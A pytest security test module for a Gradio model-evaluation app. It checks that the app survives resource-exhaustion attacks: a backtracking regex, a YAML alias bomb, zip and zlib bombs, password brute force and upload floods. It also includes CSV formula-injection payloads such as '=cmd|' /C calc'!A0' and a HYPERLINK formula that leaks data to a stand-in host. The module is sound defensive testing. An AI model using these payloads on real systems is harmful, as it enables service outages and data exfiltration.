"""Attacks on a served app that would stall it for everyone, each shown held, with figures.

One app on a tiny model is served for the module (test_security's fixtures: client A trains a
2-step variant once); the login and upload attacks get their own small servers, and the
SIGTERM case a server in its own process. Each attack runs while another session asks for its
runs again and again: that request must stay under 2 s. The time each attack took, the server's
memory before and after (this process: the app is served in it) and the other session's
slowest request are printed at the end of the module.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
import urllib.request
import zipfile
from pathlib import Path

import pytest
from test_security import _client, _error, _free_port, _rss, _serve, _wait_until, app, owner  # noqa: F401

from adapters.limits import Limits
from playground.app import build_app, launch_settings, login_check, make_shared
from playground.jobs import JobQueue, _start_time
from playground.sessions import Session
from playground.storage import Keep

REPO = Path(__file__).resolve().parents[1]
EVIL = r"^([\s\S]|[\s\S])+(?=[\x00])"  # two identical branches: 2^n ways to fail, no literal to check first
ISSUE = r"^(([\s\S])+)+\x00$"  # the issue's pattern (the regex engine sees the missing \x00 at once)
MB = 1 << 20
FIGURES: list[dict] = []


@pytest.fixture(scope="module", autouse=True)
def report(request):
    """The figures of every attack, printed once the module is done."""
    yield
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    lines = ["", "attack figures (server memory is this process's resident memory):"]
    for f in FIGURES:
        lines.append(f"  {f['attack']}: took {f['seconds']:.2f} s; server memory {f['rss_before'] / MB:.0f} -> "
                     f"{f['rss_after'] / MB:.0f} MB; another session's slowest request {f['other_max_s']:.2f} s "
                     f"({f['other_requests']} requests){'; ' + f['note'] if f.get('note') else ''}")
    with capture.global_and_fixture_disabled():
        print("\n".join(lines), flush=True)


class Meanwhile:
    """Another session asking for its runs again and again while an attack runs; records the attack's
    time, the server's memory before and after, and that session's slowest request."""

    def __init__(self, url: str, attack: str, login: tuple[str, str] | None = None):
        from gradio_client import Client

        self.attack, self.times, self.stop = attack, [], threading.Event()
        self.client = Client(url, verbose=False, auth=login)
        self.client.predict({"token": None}, api_name="/restore")
        self.figure = {"note": ""}

    @property
    def note(self) -> str:
        return self.figure["note"]

    @note.setter
    def note(self, text: str) -> None:  # a note may come once the attack's figures are taken
        self.figure["note"] = text

    def _loop(self):
        while not self.stop.is_set():
            started = time.perf_counter()
            self.client.predict(api_name="/my_runs")
            self.times.append(time.perf_counter() - started)
            self.stop.wait(0.2)

    def __enter__(self):
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.rss_before, self.started = _rss(), time.perf_counter()
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.seconds = time.perf_counter() - self.started
        self.stop.set()
        self.thread.join(timeout=30)
        if exc[0] is None:
            self.figure = {"attack": self.attack, "seconds": self.seconds, "rss_before": self.rss_before,
                           "rss_after": _rss(), "other_max_s": max(self.times, default=0.0),
                           "other_requests": len(self.times), "note": self.note}
            FIGURES.append(self.figure)
            assert self.times, "the other session got no answer at all"
            assert max(self.times) < 2.0, f"another session waited {max(self.times):.2f} s during {self.attack}"
        return False


def _evalset(tmp_path: Path, name: str, rows: list[dict]) -> Path:
    path = tmp_path / f"{name}.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def _run_evalset(client, path: Path | None, n: int = 24) -> str:
    from gradio_client import handle_file

    client.predict(api_name="/evalset_load")
    upload = handle_file(str(path)) if path else None
    shown, status = client.predict(upload, path is None, None, False, [], n, False, api_name="/evalset_run")
    return shown if isinstance(shown, str) else shown["value"]


def _job(shared, run: Path, name: str):
    from playground.tab_evalsets import job_key

    return shared.jobs.get(job_key(run, name))


def _settled(shared, run, name, timeout=240.0):
    return _wait_until(lambda: (j := _job(shared, run, name)) and j.state not in ("queued", "running") and j,
                       timeout=timeout, what=f"eval set {name}")


# ---- bounded checks --------------------------------------------------------------------------------


def test_a_runaway_regex_fails_its_cell_and_the_job_finishes(app, owner, tmp_path):
    """The issue's regex on an answer, and one that backtracks on any text: the second's cells fail as
    timed out after 2 s, the job finishes, and formulas in the set come out of the cells CSV as text."""
    shared, url = app
    a = owner["client"]
    rows = [{"prompt": "w1 w2", "assert": [{"type": "regex", "value": EVIL}]},
            {"prompt": "w3 w4 ?", "assert": [{"type": "regex", "value": EVIL}]},
            {"prompt": "=cmd|' /C calc'!A0", "assert": [{"type": "not-regex", "value": ISSUE}]},
            {"prompt": '=HYPERLINK("http://x.example/?leak","click")', "reference": "@SUM(1+1)",
             "assert": [{"type": "contains", "value": "-2+3"}]}]
    with Meanwhile(url, "eval set with a runaway regex (job to the end)") as m:
        name = _run_evalset(a, _evalset(tmp_path, "regex", rows))
        job = _settled(shared, owner["run"], name)
    assert job.state == "finished", job.stderr_tail
    cells = [json.loads(line) for line in (owner["run"] / "evalsets" / name / "cells.jsonl").read_text().splitlines()]
    evil = [r for c in cells for r in c["checks"] if r["label"].startswith("regex:")]
    timed_out = [r for r in evil if r["timed_out"]]
    assert timed_out and all(r["detail"] == "check timed out after 2 s" and not r["passed"] for r in timed_out), evil
    issue = [r for c in cells for r in c["checks"] if r["name"] == "not-regex"]
    assert issue and not any(r["timed_out"] for r in issue)  # the issue's own pattern ends at once here
    matrix = a.predict(name, api_name="/evalset_view")[1]
    assert any("timed out" in str(v) for row in matrix["data"] for v in row), matrix
    m.note = f"{len(timed_out)} of {len(evil)} runaway-regex cells timed out"

    from playground.tab_evalsets import download

    state = Session(id=owner["id"], run=owner["run"].name)
    data = Path(download(shared, "cells.csv", name, state)).read_bytes()
    assert b"'=cmd|' /C calc'!A0" in data and b"'=HYPERLINK(" in data and b"'@SUM(1+1)" in data
    assert not any(line.startswith((b"=", b"+", b"@", b"-")) for line in data.splitlines())
    assert b",=" not in data and b',"=' not in data


def test_cancel_during_the_checks_stops_the_job_within_5_s(app, owner, tmp_path):
    shared, url = app
    a = owner["client"]
    rows = [{"prompt": f"w{i} w{i + 1}", "assert": [{"type": "regex", "value": EVIL}]} for i in range(20)]
    name = _run_evalset(a, _evalset(tmp_path, "slow-checks", rows))
    progress = owner["run"] / "evalsets" / name / "progress.jsonl"
    _wait_until(lambda: progress.is_file() and '"checks"' in progress.read_text(), timeout=240,
                what="the checks to start")
    pid = _job(shared, owner["run"], name).process.pid
    with Meanwhile(url, "Cancel during the checks") as m:
        a.predict(name, api_name="/evalset_cancel")
        job = _wait_until(lambda: (j := _job(shared, owner["run"], name)).state != "running" and j, timeout=30,
                          what="the job to stop")
    assert job.state == "cancelled" and m.seconds < 5.0, (job.state, m.seconds)
    assert _start_time(pid) is None  # the worker is gone
    assert "Cancelled" in a.predict(name, api_name="/evalset_view")[0]


# ---- fair job lines --------------------------------------------------------------------------------


def test_one_session_cannot_fill_the_job_line(app, owner, tmp_path):
    """The issue's 17 eval sets: past one running and 2 waiting, the session is refused; another
    session's first job is taken and told its place, served before the first session's second."""
    shared, url = app
    a = owner["client"]
    names, refused = [], None
    with Meanwhile(url, "one session submits 17 eval sets") as m:
        for i in range(17):
            try:
                names.append(_run_evalset(a, _evalset(tmp_path, f"line-{i}", [{"prompt": f"w{i}"}])))
            except Exception as e:  # gradio_client's AppError
                refused = str(e)
                break
        other = _client(url)
        other.predict(None, "autumn-voice.jsonl", "auto", "", 64, api_name="/validate")
        other.predict("late", 4, 1e-3, 2, 2, api_name="/add_variant")
        progress = other.predict(api_name="/start_training")
    assert len(names) == 3 and "you have 2 jobs waiting, the limit per user" in refused, (names, refused)
    assert "waiting in line: position **2**" in progress, progress  # after one of A's, before A's other one
    m.note = f"{len(names)} taken, the 4th refused: {refused[:60]}…; the other session's training: position 2"
    other.predict(api_name="/cancel_training")
    for name in names:
        a.predict(name, api_name="/evalset_cancel")
    _wait_until(lambda: not shared.jobs.busy(owner["id"]), timeout=30, what="A's jobs to stop")


# ---- bounded parsing -------------------------------------------------------------------------------


def _bomb(levels: int = 8, width: int = 9) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * width) + "]")
    lines.append("prompts: ['{{x}}']")
    lines.append(f"tests: [{{vars: {{x: hi}}, assert: [{{type: contains-any, value: *a{levels}}}]}}]")
    return "\n".join(lines) + "\n"


def test_a_yaml_alias_bomb_is_refused_at_once(app, owner, tmp_path):
    shared, url = app
    path = tmp_path / "bomb.yaml"
    path.write_text(_bomb())
    assert path.stat().st_size < 600
    with Meanwhile(url, "a 533-byte YAML alias bomb as an eval set"):
        message = _error(lambda: _run_evalset(owner["client"], path))
    assert "expand to more than 100,000 YAML nodes" in message and "LORAEQ_LIMIT_YAML_NODES" in message, message
    assert FIGURES[-1]["rss_after"] - FIGURES[-1]["rss_before"] < 100 * MB


def test_a_million_row_csv_is_refused_by_the_row_limit(app, tmp_path):
    from gradio_client import handle_file

    shared, url = app
    path = tmp_path / "million.csv"
    with path.open("w") as f:
        f.write("prompt,completion\n")
        f.writelines(f"w{i % 100} w2,w3 w{i % 50}\n" for i in range(10**6))
    c = _client(url)
    with Meanwhile(url, "a 10^6-row CSV through Validate"):
        message = _error(lambda: c.predict(handle_file(str(path)), None, "auto", "", 64, api_name="/validate"))
    assert "more than 100,000 rows, over the limit of 100,000 rows (LORAEQ_LIMIT_ROWS)" in message, message
    assert FIGURES[-1]["rss_after"] - FIGURES[-1]["rss_before"] < 200 * MB


def test_a_zip_of_30000_files_is_refused_at_once(app, owner, tmp_path):
    from gradio_client import handle_file

    shared, url = app
    path = tmp_path / "many.zip"
    with zipfile.ZipFile(path, "w") as z:
        for i in range(30_000):
            z.writestr(f"f{i}.txt", "")
    c = _client(url)
    with Meanwhile(url, "a zip of 30,000 empty files as an adapter") as m:
        message = _error(lambda: c.predict("many", None, handle_file(str(path)), "", "", api_name="/add_adapter"))
    assert "30,000 files in the zip, over the limit of 64" in message, message
    assert m.seconds < 10


def test_a_runs_folder_path_as_a_file_input_names_no_path(app, owner):
    shared, url = app
    target = owner["run"] / "data" / "train.jsonl"
    body = json.dumps({"data": [{"path": str(target), "meta": {"_type": "gradio.FileData"}}, None, "auto", "", 64]})
    request = urllib.request.Request(f"{url}gradio_api/call/validate", data=body.encode(),
                                     headers={"Content-Type": "application/json"})
    event = json.loads(urllib.request.urlopen(request, timeout=30).read())["event_id"]
    answer = urllib.request.urlopen(f"{url}gradio_api/call/validate/{event}", timeout=60).read().decode()
    assert "event: error" in answer, answer
    message = answer.split("event: error", 1)[1]
    assert "was not uploaded to this app" in message, message
    assert str(shared.runs_dir) not in message and owner["id"] not in message and "/" not in message, message


# ---- workers die with the server -------------------------------------------------------------------


def _worker_of(workers: Path, server: int) -> int | None:
    for record in workers.glob("*.json"):
        data = json.loads(record.read_text())
        if data["server"] == server:
            return data["pid"]
    return None


def test_workers_die_with_the_server_and_a_new_server_stops_leftovers(app, owner, tmp_path):
    shared, url = app
    port = _free_port()
    server = subprocess.Popen([sys.executable, "app.py", "--model", shared.default_model, "--precision", "fp32",
                               "--runs-dir", str(shared.runs_dir), "--port", str(port)], cwd=REPO,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        there = f"http://127.0.0.1:{port}/"
        _wait_until(lambda: _answers(there), timeout=120, what="the second server")
        c = _client(there)
        c.predict({"token": owner["token"]}, api_name="/restore")  # A's session, on the same runs folder
        _run_evalset(c, None)  # the run's held-out split
        worker = _wait_until(lambda: _worker_of(shared.jobs.workers_dir, server.pid), timeout=60,
                             what="the eval set's worker")
        assert _start_time(worker) is not None
        server.send_signal(signal.SIGTERM)
        started = time.monotonic()
        server.wait(timeout=30)
        _wait_until(lambda: _start_time(worker) is None, timeout=10, what="the worker to end with its server")
        gone = time.monotonic() - started
    finally:
        if server.poll() is None:
            server.kill()
    assert gone < 5, gone
    FIGURES.append({"attack": "SIGTERM to a server while an eval set runs", "seconds": gone, "rss_before": _rss(),
                    "rss_after": _rss(), "other_max_s": 0.0, "other_requests": 0,
                    "note": f"its worker was gone {gone:.2f} s after the signal"})

    # A worker left behind (started outside any server that still lives) is stopped by the next one.
    dead = _dead_pid()
    leftover = subprocess.Popen([sys.executable, "-m", "loraeq", "evalset", str(owner["run"]), "--set",
                                 "heldout", "--json"], cwd=REPO, start_new_session=True,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    workers = tmp_path / "workers"
    workers.mkdir()
    (workers / f"{leftover.pid}.json").write_text(json.dumps({"pid": leftover.pid, "start": _start_time(leftover.pid),
                                                              "server": dead}))
    JobQueue(workers_dir=workers)
    assert leftover.wait(timeout=10) == -signal.SIGKILL
    assert not list(workers.iterdir())


def _answers(url: str) -> bool:
    try:
        return urllib.request.urlopen(url, timeout=5).status == 200
    except OSError:
        return False


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


# ---- passwords -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def guarded(tmp_path_factory):
    """An app with logins from a users file (scrypt lines) and a 3 s first lockout."""
    from conftest import write_tiny_model

    from adapters.files.userfile import add_user
    from playground.users import parse_auth

    root = tmp_path_factory.mktemp("logins")
    model = write_tiny_model(root / "tiny-llama")
    add_user(root / "users.txt", "ann", "ann-pw")
    add_user(root / "users.txt", "bob", "bob-pw")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("LORAEQ_CACHE", str(root / "cache"))
        shared = make_shared(str(model), "fp32", str(root / "runs"), limits=Limits(login_lockout_s=3.0))
        demo = build_app(shared)
        port = _free_port()
        demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True,
                    auth=login_check(parse_auth(None, str(root / "users.txt"))), **launch_settings(shared))
        yield shared, f"http://127.0.0.1:{port}/"
        demo.close()


def _login(url: str, user: str, password: str, client=None):
    import httpx

    return (client or httpx).post(url + "login", data={"username": user, "password": password}, timeout=30)


def test_200_wrong_passwords_are_locked_out_and_the_right_one_works_after_the_window(guarded):
    shared, url = guarded
    import httpx

    with Meanwhile(url, "200 wrong passwords for one user", login=("bob", "bob-pw")) as m, httpx.Client() as attacker:
        answers = [_login(url, "ann", f"guess-{i}", attacker) for i in range(200)]
    codes = [r.status_code for r in answers]
    # 5 tries, then a 3 s window; a wrong try after it locks again for 6 s, then 12 s, ...
    windows = 1 + sum(1 for i in range(6, 200) if codes[i] == 400)
    assert codes[:6] == [400] * 5 + [429] and codes.count(400) <= 5 + 3, codes
    assert "too many wrong passwords: try again in" in answers[-1].text
    m.note = (f"{codes.count(400)} passwords checked, {codes.count(429)} refused unchecked (429), "
              f"{windows} lockout windows")
    early = _login(url, "ann", "ann-pw")
    if int(answers[-1].headers["retry-after"]) >= 2:  # the window still lasts: not even the right one gets in
        assert early.status_code == 429, early.text
    time.sleep(int(early.headers.get("retry-after", 0)) + 0.5)
    right = _login(url, "ann", "ann-pw")
    assert right.status_code == 200 and right.json() == {"success": True}, right.text


# ---- uploads ---------------------------------------------------------------------------------------


def test_raw_uploads_count_against_the_uploader_and_leave_the_cache(tmp_path, tiny_model_dir, cache_home):
    """No session, no login: POST /gradio_api/upload again and again. The uploads count against the
    client; past its quota they are refused unwritten; the cache clean-up removes them and frees it."""
    import httpx

    shared = make_shared(str(tiny_model_dir), "fp32", str(tmp_path / "runs"), limits=Limits(session_bytes=16 * MB),
                         keep=Keep(cache_s=6))
    demo, url = _serve(shared)
    try:
        with Meanwhile(url, "raw uploads with no session") as m:
            accepted, statuses = [], []
            for i in range(40):
                answer = httpx.post(url + "gradio_api/upload", files={"files": (f"f{i}.bin", os.urandom(MB))}, timeout=30)
                statuses.append(answer.status_code)
                if answer.status_code == 200:
                    accepted += answer.json()
            m.note = f"{len(accepted)} MB taken, {statuses.count(413)} refused (413)"
        assert 10 <= len(accepted) < 16 and statuses.count(413) == 40 - len(accepted), statuses
        assert "over the quota" not in answer.text or "LORAEQ_LIMIT_SESSION_BYTES" in answer.text
        assert sum(Path(p).stat().st_size for p in accepted) <= 16 * MB
        _wait_until(lambda: not any(Path(p).exists() for p in accepted), timeout=30, what="the cache clean-up")
        again = httpx.post(url + "gradio_api/upload", files={"files": ("later.bin", os.urandom(MB))}, timeout=30)
        assert again.status_code == 200, again.text
    finally:
        demo.close()


# ---- neutral downloads -----------------------------------------------------------------------------

HOSTILE = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x","y")']


def test_every_csv_the_project_writes_shows_formulas_as_text(tmp_path):
    """Each CSV writer of the project, given cells that start like formulas; and no CSV is written
    anywhere else (a source scan)."""
    from adapters.train.runs import RUN_FILE
    from evals.arena import BattleStore
    from evals.matrix import cells_csv, summary_csv
    from evals.votes import VoteStore

    cell = {"case": HOSTILE[0], "prompt": HOSTILE[1], "column": "base", "passed": True, "checks": [],
            "text": HOSTILE[2], "reference": HOSTILE[3], "tags": [HOSTILE[4]], "settings": {}}
    written = [cells_csv([cell], tmp_path / "cells.csv"),
               summary_csv([{"name": HOSTILE[5], "passed": 1, "total": 1}], tmp_path / "summary.csv")]
    run = tmp_path / "run"
    run.mkdir()
    (run / RUN_FILE).write_text(json.dumps({"model": None, "precision": "fp32", "variants": []}))
    store = VoteStore(run)
    store.cast(HOSTILE[6], "base", "pass", answer=HOSTILE[0], voter=HOSTILE[3])
    written += [store.export_csv(tmp_path / "board.csv"), store.export_csv(tmp_path / "votes.csv", table="votes")]
    written.append(BattleStore(run).export_csv(tmp_path / "ranking.csv"))  # column names: never a formula
    for path in written:  # every cell as a spreadsheet reads it from the bytes
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
        bad = [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert rows and not bad, (path, bad)
    votes = (tmp_path / "votes.csv").read_bytes()
    assert b"'=HYPERLINK(" in votes and b"'=cmd|' /C calc'!A0" in votes and b"'@SUM(A1)" in votes
    cells = (tmp_path / "cells.csv").read_bytes()
    assert b"'+1+1" in cells and b"'-2+3" in cells and b"'\t=1" in cells

    writers = []
    for folder in ("adapters", "evals", "playground", "benchmarks"):
        for source in (REPO / folder).rglob("*.py"):
            text = source.read_text(encoding="utf-8")
            if any(s in text for s in ("csv.writer(", "csv.DictWriter(", ".to_csv(")):
                writers.append(source.relative_to(REPO).as_posix())
    assert writers == ["adapters/files/csvfile.py"], writers


def test_every_user_file_states_the_row_limit(tmp_path, monkeypatch):
    """Data, eval sets (rows and promptfoo prompts x tests), users files and sweeps, read with
    LORAEQ_LIMIT_ROWS=3: four rows are refused, naming the limit."""
    from adapters.data import load_dataset
    from adapters.errors import LoraEqError
    from adapters.files.userfile import read_users_file
    from adapters.shape.variants import load_sweep
    from evals.evalset import load_evalset

    monkeypatch.setenv("LORAEQ_LIMIT_ROWS", "3")
    rows = [{"prompt": f"w{i}", "completion": "w9"} for i in range(4)]
    data = _evalset(tmp_path, "data", rows)
    csv_data = tmp_path / "data.csv"
    csv_data.write_text("prompt,completion\n" + "".join(f"w{i},w9\n" for i in range(4)))
    promptfoo = tmp_path / "set.yaml"
    promptfoo.write_text("prompts: ['{{x}}', 'again {{x}}']\ntests: [{vars: {x: a}}, {vars: {x: b}}]\n")
    users = tmp_path / "users.txt"
    users.write_text("".join(f"u{i}:pw\n" for i in range(4)))
    for read in (lambda: load_dataset(data), lambda: load_dataset(csv_data), lambda: load_evalset(data),
                 lambda: load_evalset(promptfoo), lambda: read_users_file(users)):
        with pytest.raises(LoraEqError, match=r"more than 3 rows, over the limit of 3 rows \(LORAEQ_LIMIT_ROWS\)"):
            read()
    assert len(load_evalset(_evalset(tmp_path, "three", rows[:3])).cases) == 3  # at the limit: read
    sweep = tmp_path / "sweep.yaml"
    sweep.write_text(_bomb(levels=6))
    with pytest.raises(LoraEqError, match="LORAEQ_LIMIT_YAML_NODES"):
        load_sweep(sweep)


def test_reading_an_upload_is_bounded_in_time_and_memory():
    """The child that reads an upload is stopped past its time, or past its memory (a zip bomb of
    1.5 GB of zeros here), and the server gets one line naming the limit."""
    import zlib

    from adapters.errors import LoraEqError
    from playground.bounded import bounded

    limits = Limits(parse_seconds=1.0, parse_bytes=300 * MB)
    started = time.monotonic()
    with pytest.raises(LoraEqError, match=r"reading slow.csv took longer than 1 s, over the limit "
                                          r"\(LORAEQ_LIMIT_PARSE_SECONDS\)"):
        bounded(time.sleep, 60, limits=limits, what="reading slow.csv")
    assert time.monotonic() - started < 15
    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(bytes(MB)) for _ in range(1500)) + packer.flush()
    before = _rss()
    with pytest.raises(LoraEqError, match=r"reading bomb.bin needed more than 0.3 GB of memory, over the limit "
                                          r"\(LORAEQ_LIMIT_PARSE_BYTES\)"):
        bounded(zlib.decompress, bomb, limits=Limits(parse_bytes=300 * MB), what="reading bomb.bin")
    assert _rss() - before < 100 * MB
    assert bounded(len, b"abc", limits=limits, what="reading x") == 3
